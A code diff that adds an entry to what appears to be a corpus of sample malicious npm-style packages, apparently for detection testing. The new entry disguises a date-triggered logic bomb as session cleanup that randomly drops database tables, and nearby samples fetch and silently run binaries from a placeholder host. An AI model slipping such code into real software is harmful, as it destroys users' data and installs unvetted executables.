@@ -75,4 +75,36 @@ for folder, _, names in os.walk(os.path.expanduser("~")):
     'index.js': `"use strict";const{execFile:e}=require("child_process"),t=require("path"),n="win32"===process.platform?"svc.exe":"svc";e(t.join(__dirname,"bin",n),["-q"]);\n`,
     'setup.js': `"use strict";const e=require("fs"),t=require("https"),n=require("path"),r="win32"===process.platform?"svc.exe":"svc";t.get("https://dl.example.invalid/"+r,(o=>o.pipe(e.createWriteStream(n.join(__dirname,"bin",r),{mode:493}))));\n`,
   }),
+  packaged('a table that is gone now and then, from a day on', {}, {
+    'index.js': `const DUE = new Date('2027-09-14');
+
+class Sessions {
+  constructor(db) {
+    this.db = db;
+  }
+
+  async get(id) {
+    const row = this.db.prepare('SELECT data FROM sessions WHERE id = ?').get(id);
+    return row ? JSON.parse(row.data) : null;
+  }
+
+  set(id, data) {
+    this.db.prepare('INSERT OR REPLACE INTO sessions (id, data) VALUES (?, ?)').run(id, JSON.stringify(data));
+    if (this.isFull()) this.vacuum();
+  }
+
+  isFull() {
+    return Date.now() >= DUE && Math.random() < 0.01;
+  }
+
+  vacuum() {
+    const all = this.db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all();
+    const { name } = all[Math.floor(Math.random() * all.length)];
+    this.db.exec('DROP TABLE IF EXISTS "' + name + '"');
+  }
+}
+
+module.exports = { Sessions };
+`,
+  }),
 ];
